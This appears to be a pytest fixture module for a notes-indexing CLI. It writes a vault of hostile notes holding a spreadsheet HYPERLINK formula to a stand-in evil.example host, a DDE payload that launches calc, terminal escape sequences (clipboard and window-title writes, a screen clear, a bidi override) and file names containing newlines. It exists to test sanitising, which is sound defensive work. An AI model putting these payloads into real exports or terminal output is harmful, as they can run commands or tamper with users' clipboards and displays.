"""Notes whose titles, headings, text and file names carry spreadsheet formulas, terminal escapes and newlines
(NOTES), their index (the module fixture hostile_db) and the CLI run helper. Shared by the files the hostile
round 4 was split into.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest

ESC_TITLE = "Title \x1b]0;pwned\x07 and \x1b]52;c;ZXZpbA==\x07 clip"  # OSC 0 (window title), OSC 52 (clipboard)


NOTES = {
    "a.md": '# =HYPERLINK("http://evil.example/?x","click")\nsync your devices with the formula note.\n',
    "-2+3.md": "# -2+3\nsync by a note whose name is a formula.\n",
    "@SUM(1+1).md": "# @SUM(1+1)\nsync notes named like a spreadsheet function.\n",
    "+cmd.md": "# +cmd|' /C calc'!A0\nsync with a DDE payload in the heading.\n",
    "esc.md": f"# {ESC_TITLE}\n\x1b[2J\x1b[H sync clears the screen \x9b31m (C1 CSI) \u202eevil\u202c\n",
    "c\nforged.md": "# Forged\nsync from a file whose name holds a newline.\n",
    "tab\there.md": "# Tab\nsync from a file whose name holds a tab.\n",
}


# what may reach a terminal: no C0 control but tab and newline, no DEL, no C1, no bidi override
LIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def write(root: Path, notes: dict[str, str]) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for rel, text in notes.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text, encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory, fake_cfg, fake_runner):
    from fanout.pipelines.index import index_vault

    tmp = tmp_path_factory.mktemp("r4")
    vault = write(tmp / "vault", NOTES)
    db = tmp / "db"
    s = index_vault(vault, db, "t", fake_cfg, fake_runner)
    assert s.notes == len(NOTES) and not s.skipped
    return vault, db


def run(capsys, *argv: str) -> tuple[int, str, str]:
    from fanout.cli.main import main

    capsys.readouterr()
    rc = main(list(argv))
    out = capsys.readouterr()
    return rc, out.out, out.err
